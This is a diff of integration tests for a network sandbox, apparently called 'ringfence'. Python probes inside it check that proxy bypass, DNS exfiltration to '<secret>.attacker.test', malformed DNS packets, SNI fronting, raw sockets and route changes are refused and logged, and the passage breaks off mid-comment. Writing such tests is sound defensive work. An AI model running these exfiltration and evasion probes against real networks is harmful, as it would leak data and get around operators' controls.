@@ -1213,15 +1213,16 @@ try:
     out('udp-v6', 'SENT')
 except Exception as e:
     out('udp-v6', 'FAILED', e)
-curl('noproxy', '--noproxy', '*', 'http://allowed.test/hello?m=%s-direct' % M)
+curl('noproxy', '--noproxy', '*', 'http://allowed.test/hello?m=%s-noproxy' % M)
 if os.environ.get('http_proxy'):
     curl('via-proxy', 'http://allowed.test/hello?m=%s-via-proxy' % M)
 "#;
 
-/// Bypassing the proxy: direct TCP to the internet's addresses (IPv4 and IPv6), to the
-/// resolver over TCP and UDP, and curl with `--noproxy '*'` all fail inside the sandbox and
-/// nothing arrives, while the proxy works in the same run. Control: the same script on H
-/// without ringfence reaches every server.
+/// Bypassing the proxy: direct TCP to addresses no rule lists (IPv4 and IPv6) is refused at
+/// connect(2), DNS to the lab's resolver over TCP and UDP is answered by the sandbox's own
+/// resolver (these names aren't allowed: nothing reaches the lab's), and a datagram elsewhere
+/// goes nowhere; curl with `--noproxy '*'` reaches the allowed host through the transparent
+/// path. Control: the same script on H without ringfence reaches every server.
 #[test]
 fn direct_connections_bypassing_the_proxy_fail() {
     let quiet = [ip("203.0.113.10"), ip("2001:db8::10")];
@@ -1231,13 +1232,19 @@ fn direct_connections_bypassing_the_proxy_fail() {
         let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_BYPASS, m);
         assert_code(&run.out, 0);
         run.expect("via-proxy", &["rc=0", "hello from 192.0.2.10"]);
-        for name in ["tcp-v4", "tcp-far", "tcp-v6", "tcp-dns", "udp-dns", "udp-v6"] {
-            run.expect(name, &["FAILED"]);
+        for name in ["tcp-v4", "tcp-far", "tcp-v6"] {
+            run.expect(name, &["FAILED", "Connection refused"]);
         }
-        run.expect_not("noproxy", &["rc=0", "hello from"]);
+        run.expect(
+            "noproxy",
+            &["rc=0", &format!("hello from 192.0.2.10 host=allowed.test tls=false path=/hello?m={m}-noproxy")],
+        );
         run.check(lab.requests_with(&format!("{m}-direct")).is_empty(), "a direct request arrived");
         run.check_no_new_connections(lab, &quiet, &before);
         run.check(lab.queries_with(m).is_empty(), "the resolver got a direct query");
+        run.event("net.deny", &[("proto", "tcp"), ("host", "203.0.113.10"), ("port", "80"), ("reason", "not-allowed")]);
+        run.event("net.deny", &[("proto", "tcp"), ("host", "2001:db8::10"), ("port", "80")]);
+        run.event("net.deny", &[("proto", "dns"), ("host", &format!("u{m}.wild.test"))]);
 
         // Control: the same probes without ringfence get through.
         let c = unique("bypassctl");
@@ -1633,5 +1640,590 @@ fn explain_lists_preset_hosts() {
             assert_code(&out, 0);
             assert_eq!(stdout(&out).contains("registry.npmjs.org"), listed, "{who:?} {args:?}:\n{}", both(&out));
         }
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// The transparent path: programs that ignore the proxy variables.
+
+/// Helpers of the transparent probes: programs run without any proxy variable.
+const PY_DIRECT: &str = r#"
+import asyncio, resource
+noproxy = {k: v for k, v in os.environ.items() if 'proxy' not in k.lower()}
+noproxy['NODE_EXTRA_CA_CERTS'] = CA
+
+def run(name, argv, stdin=None, timeout=30):
+    try:
+        p = subprocess.run(argv, capture_output=True, env=noproxy, timeout=timeout, input=stdin)
+        out(name, 'rc=%d' % p.returncode, (p.stdout + p.stderr).decode(errors='replace'))
+    except subprocess.TimeoutExpired:
+        out(name, 'TIMEOUT')
+
+NODE = ("fetch(process.argv[1]).then(r => r.text()).then(t => console.log('OK', t), "
+        "e => console.log('ERR', String((e.cause && (e.cause.code || e.cause.message)) || e)))")
+
+def node(name, url):
+    run(name, ['node', '-e', NODE, url])
+
+def raw_tls(name, host, port, sni, path):
+    try:
+        out(name, https_get(socket.create_connection((host, port), timeout=10), sni, path))
+    except Exception as e:
+        out(name, 'FAILED', repr(e))
+
+def raw_tcp(name, host, port, payload=b'', family=0):
+    try:
+        s = socket.create_connection((host, port), timeout=5) if not family else socket.socket(family)
+        if family:
+            s.settimeout(5)
+            s.connect((host, port))
+        s.sendall(payload)
+        out(name, 'CONNECTED', recv_all(s).decode(errors='replace')[:200])
+    except Exception as e:
+        out(name, 'FAILED', e)
+
+def http(host, path, hosthdr='allowed.test'):
+    return b'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (path.encode(), hosthdr.encode())
+"#;
+
+const PY_TRANSPARENT: &str = r#"
+node('node', 'https://allowed.test/hello?m=%s-node' % M)
+raw_tls('py-tls', 'allowed.test', 443, 'allowed.test', '/hello?m=%s-py-tls' % M)
+run('curl', ['curl', '-sS', '-m', '20', '--noproxy', '*', '--cacert', CA, 'https://allowed.test/hello?m=%s-curl' % M])
+run('nc', ['nc', '-q', '2', '-w', '5', 'allowed.test', '22'], stdin=b'line-%s\n' % M.encode())
+run('ssh', ['ssh', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
+            '-o', 'ConnectTimeout=5', 'git@allowed.test'])
+node('node-denied', 'https://d%s.wild.test/hello?m=%s-denied' % (M, M))
+run('curl-denied', ['curl', '-sS', '-m', '20', '--noproxy', '*', '--cacert', CA, 'https://d%s.wild.test/?m=%s-denied' % (M, M)])
+raw_tcp('ip-literal', '192.0.2.11', 80, http('other.test', '/hello?m=%s-literal' % M, 'other.test'))
+raw_tcp('port-not-named', 'allowed.test', 2323, b'deny-%s' % M.encode())
+run('nc-denied', ['nc', '-q', '2', '-w', '5', 'other.test', '22'], stdin=b'deny-%s\n' % M.encode())
+"#;
+
+/// Programs that ignore proxy variables (Node's built-in `fetch`, a raw Python socket doing
+/// TLS, `curl --noproxy '*'`, `nc` and `ssh` to a port a rule names) reach the allowed host
+/// through the transparent path, and each connection is a `net.connect`. The same programs
+/// are refused for hosts no rule allows, each refusal a `net.deny` naming the program's
+/// destination, and the lab's servers saw nothing of them. Control: without ringfence the
+/// same script reaches every server.
+#[test]
+fn programs_without_proxy_settings_reach_allowed_hosts_only() {
+    each_identity("transp", |lab, env, m| {
+        let ssh_before = lab.lines_with("SSH-2.0-OpenSSH").len();
+        let args = ["--allow-host", "allowed.test", "--allow-host", "allowed.test:22"];
+        let code = format!("{PY_DIRECT}\n{PY_TRANSPARENT}");
+        let run = Run::sandboxed(lab, env, &args, &code, m);
+        assert_code(&run.out, 0);
+        run.expect("node", &["OK hello from 192.0.2.10 host=allowed.test tls=true"]);
+        run.expect("py-tls", &["hello from 192.0.2.10 host=allowed.test tls=true"]);
+        run.expect("curl", &["rc=0", "hello from 192.0.2.10 host=allowed.test tls=true"]);
+        for name in ["node", "py-tls", "curl"] {
+            run.one_request(lab, &format!("{m}-{name}"));
+        }
+        run.expect("nc", &["SSH-2.0-ringfence-lab", &format!("line-{m}")]);
+        run.check(!lab.lines_with(&format!("line-{m}")).is_empty(), "the line server saw nothing of nc");
+        run.check(lab.lines_with("SSH-2.0-OpenSSH").len() > ssh_before, "the line server saw no SSH client");
+        run.event("net.connect", &[("proto", "tcp"), ("host", "allowed.test"), ("port", "443")]);
+        let ssh = run.event("net.connect", &[("proto", "tcp"), ("host", "allowed.test"), ("port", "22")]);
+        run.check(ssh["rule"] == "allowed.test:22" && ssh["addr"] == "192.0.2.10:22", &format!("{ssh}"));
+
+        // The refusals: names are refused by the resolver, addresses and ports at connect(2).
+        let denied = format!("d{m}.wild.test");
+        run.expect("node-denied", &["ERR", "ENOTFOUND"]);
+        run.expect("curl-denied", &["rc=6"]);
+        run.expect("ip-literal", &["FAILED", "Connection refused"]);
+        run.expect("port-not-named", &["FAILED", "Connection refused"]);
+        run.expect_not("nc-denied", &["SSH-2.0-ringfence-lab"]);
+        run.check_unreached(lab, &denied);
+        run.check(lab.requests_with(&format!("{m}-literal")).is_empty(), "the IP literal was reached");
+        run.check(lab.lines_with(&format!("deny-{m}")).is_empty(), "a refused connection reached the line server");
+        run.event("net.deny", &[("proto", "dns"), ("host", &denied), ("reason", "not-allowed")]);
+        run.event("net.deny", &[("proto", "tcp"), ("host", "192.0.2.11"), ("port", "80"), ("reason", "not-allowed")]);
+        run.event(
+            "net.deny",
+            &[("proto", "tcp"), ("host", "allowed.test"), ("port", "2323"), ("reason", "not-allowed")],
+        );
+        run.event("net.deny", &[("proto", "dns"), ("host", "other.test")]);
+
+        // Control: without ringfence every probe gets through.
+        let c = unique("transpctl");
+        let host = Run::unsandboxed(lab, env, &code, &c);
+        host.expect("node-denied", &["OK hello from 192.0.2.10"]);
+        host.expect("ip-literal", &["CONNECTED", "hello from 192.0.2.11"]);
+        host.expect("nc-denied", &["SSH-2.0-ringfence-lab"]);
+        host.check(!lab.lines_with(&format!("deny-{c}")).is_empty(), "control: the line server saw nothing");
+    });
+}
+
+const PY_DNS_EXFIL: &str = r#"
+try:
+    socket.getaddrinfo('g%s.attacker.test' % M, 443)
+    out('gai', 'RESOLVED')
+except Exception as e:
+    out('gai', 'FAILED', e)
+run('dig-udp', ['dig', '+time=3', '+tries=1', 'u%s.attacker.test' % M])
+run('dig-tcp', ['dig', '+tcp', '+time=3', '+tries=1', 't%s.attacker.test' % M])
+run('dig-direct', ['dig', '@192.0.2.53', '+time=3', '+tries=1', 'TXT', 'x%s.attacker.test' % M])
+run('dig-allowed', ['dig', '+short', '+time=3', '+tries=1', 'ok%s.wild.test' % M])
+run('dig-allowed-tcp', ['dig', '+short', '+tcp', '+time=3', '+tries=1', 'AAAA', 'ok%s.wild.test' % M])
+"#;
+
+/// DNS exfiltration: `getaddrinfo`, `dig` over UDP and TCP, and `dig @server` of
+/// `<secret>.attacker.test` get NXDOMAIN from the sandbox's resolver and never reach the lab's
+/// resolver; each lookup is a `net.deny`. An allowed name gets a fake address (IPv4 and IPv6),
+/// and the gateway's own lookup of it reaches the lab (control); so does the same `dig`
+/// without ringfence.
+#[test]
+fn dns_exfiltration_never_reaches_the_resolver() {
+    each_identity("exfil", |lab, env, m| {
+        let args = ["--allow-host", "allowed.test", "--allow-host", "*.wild.test"];
+        let code = format!("{PY_DIRECT}\n{PY_DNS_EXFIL}");
+        let run = Run::sandboxed(lab, env, &args, &code, m);
+        assert_code(&run.out, 0);
+        run.expect("gai", &["FAILED"]);
+        for name in ["dig-udp", "dig-tcp", "dig-direct"] {
+            run.expect(name, &["rc=0", "status: NXDOMAIN"]);
+        }
+        let exfil = format!("{m}.attacker.test");
+        run.check(
+            lab.queries_with(&exfil).is_empty(),
+            &format!("the lab's resolver saw {:?}", lab.queries_with(&exfil)),
+        );
+        for prefix in ["g", "u", "t", "x"] {
+            run.event(
+                "net.deny",
+                &[("proto", "dns"), ("host", &format!("{prefix}{exfil}")), ("reason", "not-allowed")],
+            );
+        }
+        run.expect("dig-allowed", &["rc=0", "198.18."]);
+        run.expect("dig-allowed-tcp", &["rc=0", "fd72:696e:6766::"]);
+        let allowed = format!("ok{m}.wild.test");
+        run.check(lab.queries_with(&allowed).iter().any(|q| q.name == allowed), "the allowed name was not resolved");
+        run.event("net.dns", &[("name", &allowed)]);
+
+        // Control: without ringfence the question reaches the lab's resolver.
+        let c = unique("exfilctl");
+        let host = Run::unsandboxed(lab, env, &code, &c);
+        host.expect("dig-direct", &["rc=0"]);
+        assert!(!lab.queries_with(&format!("x{c}.attacker.test")).is_empty(), "control: no query arrived");
+    });
+}
+
+const PY_FAKES: &str = r#"
+fake = socket.getaddrinfo('allowed.test', 443, socket.AF_INET)[0][4][0]
+fake6 = socket.getaddrinfo('allowed.test', 443, socket.AF_INET6)[0][4][0]
+out('fake', fake, fake6)
+raw_tls('same-sni', fake, 443, 'allowed.test', '/hello?m=%s-same' % M)
+raw_tls('other-sni', fake, 443, 'f%s.wild.test' % M, '/hello?m=%s-front' % M)
+x = 'x%s.wild.test' % M
+xfake = socket.getaddrinfo(x, 80, socket.AF_INET)[0][4][0]
+raw_tcp('denied-port', xfake, 443)
+raw_tcp('allowed-port', xfake, 80, http(x, '/hello?m=%s-xport' % M, x))
+raw_tcp('unassigned', '198.18.255.1', 443)
+raw_tcp('v6-fake', fake6, 80, http('allowed.test', '/hello?m=%s-v6fake' % M), socket.AF_INET6)
+raw_tcp('v6-listed', '2001:db8::10', 80, http('allowed.test', '/hello?m=%s-v6listed' % M, '[2001:db8::10]'), socket.AF_INET6)
+raw_tcp('v6-unlisted', '2001:db8::11', 80, http('allowed.test', '/hello?m=%s-v6unlisted' % M), socket.AF_INET6)
+"#;
+
+/// Fake addresses: a TLS connection to an allowed name's fake address must name that host
+/// (another SNI is refused before the hello reaches any server), the fake address of a name
+/// whose port is denied is refused, and an address of the pool that was never given out is
+/// refused. IPv6 follows the same rules: the fake IPv6 address works, a listed IPv6 address
+/// works, an unlisted one is refused.
+#[test]
+fn fake_addresses_and_ipv6_obey_the_rules() {
+    each_identity("fakes", |lab, env, m| {
+        let x = format!("x{m}.wild.test");
+        let deny = format!("{x}:443");
+        let args = [
+            "--allow-host",
+            "allowed.test",
+            "--allow-host",
+            "*.wild.test",
+            "--deny-host",
+            &deny,
+            "--allow-host",
+            "[2001:db8::10]:80",
+        ];
+        let code = format!("{PY_DIRECT}\n{PY_FAKES}");
+        let run = Run::sandboxed(lab, env, &args, &code, m);
+        assert_code(&run.out, 0);
+        run.expect("fake", &["198.18.", "fd72:696e:6766::"]);
+        run.expect("same-sni", &["hello from 192.0.2.10 host=allowed.test tls=true"]);
+        run.expect_not("other-sni", &["hello from"]);
+        run.check(lab.hellos_with(&format!("f{m}")).is_empty(), "the fronted hello reached a server");
+        run.check(lab.requests_with(&format!("{m}-front")).is_empty(), "the fronted request reached a server");
+        run.denied("allowed.test", "sni-mismatch");
+        run.expect("denied-port", &["FAILED", "Connection refused"]);
+        run.event("net.deny", &[("host", &x), ("port", "443"), ("reason", "denied")]);
+        run.expect("allowed-port", &["CONNECTED", &format!("hello from 192.0.2.10 host={x}")]);
+        run.expect("unassigned", &["FAILED", "Connection refused"]);
+        run.event("net.deny", &[("host", "198.18.255.1"), ("reason", "unknown-address")]);
+        run.expect("v6-fake", &["CONNECTED", "hello from 192.0.2.10 host=allowed.test"]);
+        run.expect("v6-listed", &["CONNECTED", "hello from 2001:db8::10"]);
+        run.expect("v6-unlisted", &["FAILED", "Connection refused"]);
+        run.check(lab.requests_with(&format!("{m}-v6unlisted")).is_empty(), "the unlisted IPv6 address was reached");
+        run.event("net.deny", &[("host", "2001:db8::11"), ("port", "80"), ("reason", "not-allowed")]);
+    });
+}
+
+const PY_LOAD: &str = r#"
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+addr = socket.getaddrinfo('allowed.test', 80, socket.AF_INET)[0][4][0]
+
+async def one(i):
+    r, w = await asyncio.open_connection(addr, 80)
+    w.write(http('allowed.test', '/hello?m=%s-par%d' % (M, i)))
+    await w.drain()
+    data = await r.read()
+    w.close()
+    return b'hello from 192.0.2.10' in data
+
+async def parallel():
+    return sum(await asyncio.gather(*(one(i) for i in range(1000))))
+out('parallel', asyncio.run(parallel()))
+
+n = 1 << 30
+block = bytes(ord('a') + i % 26 for i in range(65536))
+want = hashlib.sha256()
+for _ in range(n // len(block)):
+    want.update(block)
+s = socket.create_connection(('allowed.test', 80), timeout=60)
+s.sendall(http('allowed.test', '/bytes?n=%d' % n))
+data = recv_head(s)
+head, body = data.split(b'\r\n\r\n', 1)
+got, count = hashlib.sha256(body), len(body)
+while True:
+    chunk = s.recv(1 << 20)
+    if not chunk:
+        break
+    got.update(chunk)
+    count += len(chunk)
+out('big', count, got.hexdigest() == want.hexdigest())
+
+# Keep-alive: three requests, one after the other, on one connection.
+s = socket.create_connection(('allowed.test', 80), timeout=10)
+answered = 0
+for i in range(3):
+    s.sendall(b'GET /hello?m=%s-ka%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n' % (M.encode(), i))
+    data = recv_head(s)
+    head, body = data.split(b'\r\n\r\n', 1)
+    length = int([l.split(b':')[1] for l in head.split(b'\r\n') if l.lower().startswith(b'content-length:')][0])
+    while len(body) < length:
+        body += s.recv(65536)
+    answered += b'hello from 192.0.2.10' in body
+out('keepalive', answered)
+s.close()
+
+s = socket.create_connection(('allowed.test', 2323), timeout=10)
+s.sendall(b'hello')
+try:
+    out('reset', 'DATA', s.recv(100))
+except ConnectionResetError as e:
+    out('reset', 'ECONNRESET')
+except Exception as e:
+    out('reset', 'OTHER', repr(e))
+"#;
+
+/// Load and failures on the transparent path: 1,000 connections at once all complete, a
+/// 1 GiB download arrives whole (its SHA-256 matches), three requests share one kept-alive
+/// connection, and a server's reset reaches the program as ECONNRESET.
+#[test]
+fn transparent_path_under_load_and_resets() {
+    each_identity("load", |lab, env, m| {
+        let args = ["--allow-host", "allowed.test", "--allow-host", "allowed.test:2323"];
+        let code = format!("{PY_DIRECT}\n{PY_LOAD}");
+        let run = Run::sandboxed(lab, env, &args, &code, m);
+        assert_code(&run.out, 0);
+        run.expect("parallel", &["1000"]);
+        run.check(lab.requests_with(&format!("{m}-par")).len() == 1000, "the server did not see 1000 requests");
+        run.expect("big", &["1073741824 True"]);
+        run.expect("reset", &["ECONNRESET"]);
+        run.expect("keepalive", &["3"]);
+        run.check(lab.requests_with(&format!("{m}-ka")).len() == 3, "the server did not see the kept-alive requests");
+    });
+}
+
+const PY_UDP: &str = r#"
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(b'quic-%s' % M.encode(), ('allowed.test', 443))
+u.sendto(b'ntp-%s' % M.encode(), ('192.0.2.10', 123))
+try:
+    u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    u6.sendto(b'quic6-%s' % M.encode(), (socket.getaddrinfo('allowed.test', 443, socket.AF_INET6)[0][4][0], 443))
+except OSError as e:
+    out('udp6', 'FAILED', e)
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+c.settimeout(3)
+c.connect(('allowed.test', 443))
+try:
+    for _ in range(3):
+        c.send(b'quicc-%s' % M.encode())
+        time.sleep(0.1)
+    c.recv(100)
+    out('connected-udp', 'ANSWERED')
+except ConnectionRefusedError:
+    out('connected-udp', 'REFUSED')
+except Exception as e:
+    out('connected-udp', 'OTHER', repr(e))
+for name, kind in (('icmp-raw', socket.SOCK_RAW), ('icmp-ping', socket.SOCK_DGRAM)):
+    try:
+        socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(b'\x08\0\0\0\0\0\0\0', ('192.0.2.10', 0))
+        out(name, 'SENT')
+    except PermissionError as e:
+        out(name, 'REFUSED', e)
+    except Exception as e:
+        out(name, 'OTHER', repr(e))
+time.sleep(0.5)
+"#;
+
+/// UDP other than DNS (QUIC to port 443, NTP, over IPv4 and IPv6, connected or not) is
+/// dropped: nothing reaches the lab's UDP servers, a connected socket learns the port is
+/// unreachable (so HTTP/3 clients fall back to TCP), and each destination is a `net.deny` with
+/// reason `udp`. ICMP sockets are refused. Control: without ringfence the datagrams arrive.
+#[test]
+fn udp_is_dropped_and_recorded() {
+    each_identity("udp", |lab, env, m| {
+        let code = format!("{PY_DIRECT}\n{PY_UDP}");
+        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], &code, m);
+        assert_code(&run.out, 0);
+        run.check(lab.datagrams_with(m) == 0, "a datagram reached the lab");
+        run.expect("connected-udp", &["REFUSED"]);
+        run.expect("icmp-raw", &["REFUSED"]);
+        run.expect("icmp-ping", &["REFUSED"]);
+        for (host, port) in [("allowed.test", "443"), ("192.0.2.10", "123")] {
+            run.event("net.deny", &[("proto", "udp"), ("host", host), ("port", port), ("reason", "udp")]);
+        }
+        let quic = run.events_with("net.deny", &[("proto", "udp"), ("host", "allowed.test"), ("port", "443")]);
+        run.check(quic.len() == 2, "one event per destination address (the fake IPv4 and IPv6 ones)");
+
+        let c = unique("udpctl");
+        let host = Run::unsandboxed(lab, env, &code, &c);
+        host.check(lab.datagrams_with(&c) >= 3, "control: the datagrams did not arrive");
+    });
+}
+
+/// With the supervisor killed by SIGKILL, the sandbox has no network: a detached process
+/// that keeps connecting (through the transparent path, which worked before the kill) gets
+/// nothing more to the lab.
+#[test]
+fn a_killed_supervisor_leaves_no_way_out() {
+    each_identity("killsup", |lab, env, m| {
+        let script = format!(
+            "setsid python3 -c \"
+import socket, time
+i = 0
+while True:
+    i += 1
+    try:
+        s = socket.create_connection(('allowed.test', 80), timeout=1)
+        s.sendall(b'GET /hello?m={m}-%d HTTP/1.1\\\\r\\\\nHost: allowed.test\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n' % i)
+        s.recv(100)
+    except Exception:
+        pass
+    time.sleep(0.1)
+\" </dev/null >/dev/null 2>&1 &
+sleep 60"
+        );
+        let mut cmd = lab.ringfence(env, &["run", "--allow-host", "allowed.test", "--", "sh", "-c", &script]);
+        let mut child = cmd.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null()).spawn().unwrap();
+        let reached = poll_until(std::time::Duration::from_secs(20), || lab.requests_with(m).len() >= 3);
+        assert!(reached, "{:?}: the detached loop never got through before the kill", env.who);
+        nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), nix::sys::signal::Signal::SIGKILL)
+            .unwrap();
+        let _ = child.wait();
+        std::thread::sleep(std::time::Duration::from_millis(300));
+        let at_kill = lab.requests_with(m).len();
+        std::thread::sleep(std::time::Duration::from_secs(3));
+        assert_eq!(lab.requests_with(m).len(), at_kill, "{:?}: requests arrived after the kill", env.who);
+    });
+}
+
+const PY_HOSTILE: &str = r#"
+import struct
+
+def name_bytes(name):
+    return b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\0'
+
+def query(name, qtype=1, flags=0x0100, count=1):
+    return struct.pack('!HHHHHH', 0x1234, flags, count, 0, 0, 0) + name_bytes(name) + struct.pack('!HH', qtype, 1)
+
+def udp(name, payload, to='192.0.2.53'):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1)
+    s.sendto(payload, (to, 53))
+    try:
+        reply = s.recv(65535)
+        out(name, 'ANSWER', 'rcode=%d' % (reply[3] & 15) if len(reply) > 3 else 'short')
+    except socket.timeout:
+        out(name, 'SILENT')
+
+secret = ('h%s.attacker.test' % M).encode()
+header = struct.pack('!HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
+udp('empty', b'')
+udp('garbage', bytes(range(256)) * 2)
+udp('response', query(secret, flags=0x8180))
+udp('pointer-loop', header + b'\xc0\x0c' + struct.pack('!HH', 1, 1))
+udp('no-question', struct.pack('!HHHHHH', 1, 0x0100, 0, 0, 0, 0))
+udp('many-questions', query(b'p' + secret, count=65535))
+udp('binary-label', query(b'a\x00b.' + b'n' + secret))
+udp('txt', query(b't' + secret, qtype=16), to='1.1.1.1')
+udp('long-name', query(b'.'.join([b'x' * 63] * 3) + b'.l' + secret))
+
+# DNS over TCP: a length that is never sent whole, then a question one byte at a time.
+s = socket.create_connection(('192.0.2.53', 53), timeout=5)
+s.sendall(b'\xff\xff' + b'z' * 100)
+s.close()
+s = socket.create_connection(('192.0.2.53', 53), timeout=5)
+msg = query(b'b' + secret)
+for b in struct.pack('!H', len(msg)) + msg:
+    s.send(bytes([b]))
+reply = recv_until(s, lambda d: len(d) >= 2 and len(d) >= 2 + struct.unpack('!H', d[:2])[0])
+out('tcp-bytewise', 'ANSWER', 'rcode=%d' % (reply[5] & 15) if len(reply) > 5 else 'short')
+idle = [socket.create_connection(('192.0.2.53', 53), timeout=5) for _ in range(600)]
+out('idle-tcp', len(idle))
+
+# While they idle, UDP questions and other connections are served. A half-closed connection
+# to a port a rule names: what was sent before the half-close comes back, then the end of the
+# stream.
+run('after', ['dig', '+short', '+time=3', '+tries=1', 'ok%s.wild.test' % M])
+run('v6-server', ['dig', '@2001:db8::53', '+short', '+time=3', '+tries=1', 'AAAA', 'ok6%s.wild.test' % M])
+run('v6-denied', ['dig', '@2001:db8::53', '+time=3', '+tries=1', 'v6%s.attacker.test' % M])
+s = socket.create_connection(('allowed.test', 22), timeout=10)
+s.sendall(b'half-%s\n' % M.encode())
+s.shutdown(socket.SHUT_WR)
+out('half-close', recv_until(s, lambda d: False).decode(errors='replace'))
+
+# Once they are closed, DNS over TCP answers again.
+for c in idle:
+    c.close()
+run('after-tcp', ['dig', '+short', '+tcp', '+time=3', '+tries=1', 'okt%s.wild.test' % M])
+
+# TCP Fast Open connects in sendto(2), without connect(2): the listener's checks still apply.
+def fastopen(name, host, port, payload):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    try:
+        s.sendto(payload, socket.MSG_FASTOPEN, (socket.gethostbyname(host), port))
+        s.settimeout(5)
+        out(name, 'SENT', recv_all(s).decode(errors='replace')[:200])
+    except Exception as e:
+        out(name, 'FAILED', e)
+fastopen('tfo-allowed', 'allowed.test', 22, b'tfo-%s\n' % M.encode())
+fastopen('tfo-literal', '192.0.2.11', 80, http('other.test', '/hello?m=%s-tfo' % M, 'other.test'))
+fastopen('tfo-port', 'allowed.test', 2323, b'tfo-port-%s' % M.encode())
+
+# A captured port can't be taken over, for any address (the control: a port no rule covers).
+for name, family, addr, port in (('bind-any6', socket.AF_INET6, '::', 8443), ('bind-any4', socket.AF_INET, '0.0.0.0', 8443),
+                                 ('bind-fake', socket.AF_INET, '198.18.0.1', 8443), ('bind-literal', socket.AF_INET, '192.0.2.11', 8443),
+                                 ('bind-other-port', socket.AF_INET, '192.0.2.11', 8444)):
+    b = socket.socket(family)
+    b.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    b.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+    try:
+        b.bind((addr, port))
+        b.listen()
+        out(name, 'BOUND')
+    except OSError as e:
+        out(name, 'REFUSED', e)
+
+# The way out cannot be changed: no raw or packet sockets, no route changes.
+for name, args in (('raw', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
+                   ('packet', (socket.AF_PACKET, socket.SOCK_RAW, 0x0300))):
+    try:
+        socket.socket(*args)
+        out(name, 'OPENED')
+    except PermissionError as e:
+        out(name, 'REFUSED', e)
+run('route-del', ['ip', 'route', 'del', 'local', '0.0.0.0/0', 'table', 'local'])
+run('route-add', ['ip', 'route', 'add', '192.0.2.0/24', 'dev', 'lo'])
+run('routes', ['ip', 'route', 'show', 'table', 'local'])
+"#;
+
+/// Hostile bytes to the sandbox's resolver (an empty datagram, garbage, a response, a
+/// compression loop, no question, 65535 questions, a binary label, a name of 200 bytes, a TCP
+/// length never sent whole, a question one byte at a time, 600 idle TCP connections) get a
+/// refusal or silence, never reach the lab's resolver, and leave the resolver answering, also
+/// at an IPv6 address
+/// (UDP while the idle connections are open, TCP once they are closed). A half-closed
+/// connection to a named port delivers its data and then the end of the stream, while 600
+/// DNS connections idle. TCP Fast Open (a connection made by sendto(2), not connect(2)) works
+/// to a named port and reaches nothing elsewhere. No listener of the sandbox can take a
+/// captured port, on any address (control: another port binds). Raw and packet sockets and route changes are refused, and the local default route is
+/// still in place. Control: the allowed names reach the lab's resolver.
+#[test]
+fn hostile_dns_and_a_fixed_way_out() {
+    each_identity("hostile", |lab, env, m| {
+        let args =
+            ["--allow-host", "allowed.test:22", "--allow-host", "*.wild.test", "--allow-host", "other.test:8443"];
+        let code = format!("{PY_DIRECT}\n{PY_HOSTILE}");
+        let run = Run::sandboxed(lab, env, &args, &code, m);
+        assert_code(&run.out, 0);
+        for name in ["empty", "garbage", "response", "pointer-loop", "many-questions"] {
+            run.expect(name, &["SILENT"]);
+        }
+        run.expect("no-question", &["ANSWER", "rcode=1"]);
+        for name in ["binary-label", "txt", "long-name", "tcp-bytewise"] {
+            run.expect(name, &["ANSWER", "rcode=3"]);
+        }
+        let secret = format!("{m}.attacker.test");
+        run.check(lab.queries_with(&secret).is_empty(), &format!("the lab saw {:?}", lab.queries_with(&secret)));
+        run.event("net.deny", &[("proto", "dns"), ("host", &format!("bh{secret}")), ("reason", "not-allowed")]);
+        run.expect("idle-tcp", &["600"]);
+        run.expect("after", &["rc=0", "198.18."]);
+        run.expect("v6-server", &["rc=0", "fd72:696e:6766::"]);
+        run.expect("v6-denied", &["rc=0", "status: NXDOMAIN", "SERVER: 2001:db8::53#53"]);
+        run.expect("after-tcp", &["rc=0", "198.18."]);
+        let allowed = format!("okt{m}.wild.test");
+        run.check(lab.queries_with(&allowed).iter().any(|q| q.name == allowed), "control: no lookup reached the lab");
+
+        run.expect("half-close", &["SSH-2.0-ringfence-lab", &format!("half-{m}")]);
+        run.check(!lab.lines_with(&format!("half-{m}")).is_empty(), "the line server saw nothing");
+        run.expect("tfo-allowed", &["SENT", &format!("tfo-{m}")]);
+        run.expect_not("tfo-literal", &["hello from"]);
+        run.expect_not("tfo-port", &["SENT tfo-port"]);
+        run.check(lab.requests_with(&format!("{m}-tfo")).is_empty(), "a Fast Open request reached a server");
+        run.event("net.deny", &[("proto", "tcp"), ("host", "192.0.2.11"), ("port", "80"), ("reason", "not-allowed")]);
+        for name in ["bind-any6", "bind-any4", "bind-fake", "bind-literal"] {
+            run.expect(name, &["REFUSED", "Address already in use"]);
+        }
+        run.expect("bind-other-port", &["BOUND"]);
+        run.expect("raw", &["REFUSED"]);
+        run.expect("packet", &["REFUSED"]);
+        run.expect_not("route-del", &["rc=0"]);
+        run.expect_not("route-add", &["rc=0"]);
+        run.expect("routes", &["rc=0", "local default dev lo"]);
+    });
+}
+
+const PY_REBIND: &str = r#"
+name = 'r%s.rebind.test' % M
+addr = socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]
+out('fake', addr)
+for i in range(6):
+    raw_tcp('rebind-%d' % i, addr, 80, http(name, '/hello?m=%s-rebind' % M, name))
+"#;
+
+/// A name that rebinds to loopback between lookups (the lab's resolver alternates its answer,
